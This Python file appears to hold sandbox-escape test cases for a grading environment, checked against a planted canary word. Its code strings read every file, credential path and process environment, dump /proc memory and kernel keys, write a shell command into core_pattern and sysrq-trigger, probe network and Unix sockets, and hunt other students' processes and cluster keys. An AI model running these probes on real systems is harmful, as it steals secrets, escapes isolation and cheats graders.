"""Attacks that look for what they may not see. Whatever they find, they print, keep in a variable and write down.

`{canary}` stands for a word that the test has planted in files, folders, the environment and sockets.
"""

from __future__ import annotations

from attack import FULL_MARKS, IMPORTS, SOLVED, Attack


def stealing(name: str, tries: str, code: str) -> Attack:
    return Attack(name, tries, (IMPORTS, SOLVED, code), FULL_MARKS)


STEALING = (
    stealing(
        "every-file",
        "read every file that can be seen, and list every folder",
        """
        import os
        for folder, folders, files in os.walk("/"):
            if folder.startswith(("/proc", "/usr", "/lib", "/dev")) or "site-packages" in folder:
                folders.clear()
                continue
            print(folder, files[:20])
            for name in files[:50]:
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(20_000)
                except OSError:
                    continue
                if "{canary}" in text or "missing_layers" in text:
                    print("FOUND", folder, name, text[:500])
        """,
    ),
    stealing(
        "named-places",
        "open the solution, the answers, the gradebook, home and credentials by their names",
        """
        import glob, os
        for pattern in ({places}):
            for path in glob.glob(os.path.expanduser(pattern), recursive=True)[:20]:
                try:
                    print("FOUND", path, open(path, errors="replace").read(300))
                except OSError as error:
                    print(path, error)
        """,
    ),
    stealing(
        "environment",
        "read the environment, its own and that of every process",
        """
        import os, glob
        print(dict(os.environ))
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/self/*"):
            try:
                print(path, open(path, "rb").read(4000))
            except OSError:
                pass
        """,
    ),
    stealing(
        "host-proc",
        "look at the machine through /proc, /sys and the kernel's settings",
        """
        import os
        for path in ("/proc/1/root", "/proc/1/cwd", "/proc/1/fd", "/sys", "/proc/kcore", "/proc/kallsyms", "/proc/keys",
                     "/sys/class/net", "/proc/1/maps", "/proc/1/mem", "/proc/net/unix", "/proc/self/mountinfo"):
            try:
                print(path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(2000))
            except OSError as error:
                print(path, error)
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
            try:
                os.write(os.open(path, os.O_WRONLY), b"|/bin/sh -c {canary}")
                print("WROTE", path)
            except OSError as error:
                print(path, error)
        """,
    ),
    stealing(
        "network",
        "reach anything by TCP, UDP, DNS and local sockets",
        """
        import socket
        def attempt(what, work):
            try:
                print("REACHED", what, work())
            except OSError as error:
                print(what, error)
        attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {port}), 1).recv(100))
        attempt("outside", lambda: socket.create_connection(("192.0.2.1", 80), 1))
        attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
        def udp():
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            one.settimeout(1)
            one.sendto(b"x", ("127.0.0.1", {port}))
            return one.recv(10)
        attempt("udp", udp)
        def local(name):
            one = socket.socket(socket.AF_UNIX)
            one.settimeout(1)
            one.connect(name)
            return one.recv(100)
        for number, name in enumerate(({sockets})):
            attempt(number, lambda: local(name))
        """,
    ),
    stealing(
        "neighbours",
        "find the kernels of other students: their sockets, processes, memory, descriptors and files",
        """
        import glob, os, signal
        print(glob.glob("/tmp/**", recursive=True), glob.glob("/dev/shm/*"), glob.glob("/run/**", recursive=True))
        print(open("/proc/net/unix").read() if os.path.exists("/proc/net/unix") else "")
        for number in os.listdir("/proc/self/fd"):
            try:
                print(number, os.readlink(f"/proc/self/fd/{{number}}"))
            except OSError:
                pass
        for process in range(1, 4000):
            if process == os.getpid():
                continue
            try:
                os.kill(process, 0)
                print("process", process, open(f"/proc/{{process}}/cmdline").read())
                print("MEMORY", process, open(f"/proc/{{process}}/mem", "rb").read(1))
            except OSError:
                pass
        """,
    ),
    stealing(
        "labels",
        "look for the images and labels that the accuracy is measured with",
        """
        import gc, numpy as np, os
        (x, y), (x_test, y_test) = keras.datasets.mnist.load_data()
        print(len(x), len(x_test))
        arrays = [value for value in gc.get_objects() if type(value) is np.ndarray and value.ndim == 4]
        print("arrays", [value.shape for value in arrays])
        print(os.listdir(os.path.expanduser("~")), os.listdir("."))
        """,
    ),
    stealing(
        "cluster-keys",
        "find the keys of a cluster's workers, and whoever listens for them",
        """
        import glob, os, socket
        for name in os.environ:
            if name.startswith(("DASK", "SSL", "AUTOGRADER")): print("FOUND", name)
        for pattern in ("/tmp/**", "/run/**", "/home/**", "/root/**", "/notebook/**"):
            for path in glob.glob(pattern, recursive=True):
                if "dask" in path or path.endswith((".pem", ".key")): print("FOUND", path)
        for table in ("/proc/net/tcp", "/proc/net/tcp6", "/proc/net/unix"):
            try: lines = open(table).read().splitlines()[1:]
            except OSError as error: print(table, error); continue
            for line in lines:
                if "tcp" in table: print(table, line)  # its own kernel's
        for port in (8786, 8787, 22, 80):
            try: print("REACHED", socket.create_connection(("127.0.0.1", port), 1))
            except OSError as error: print(port, error)
        """,
    ),
)
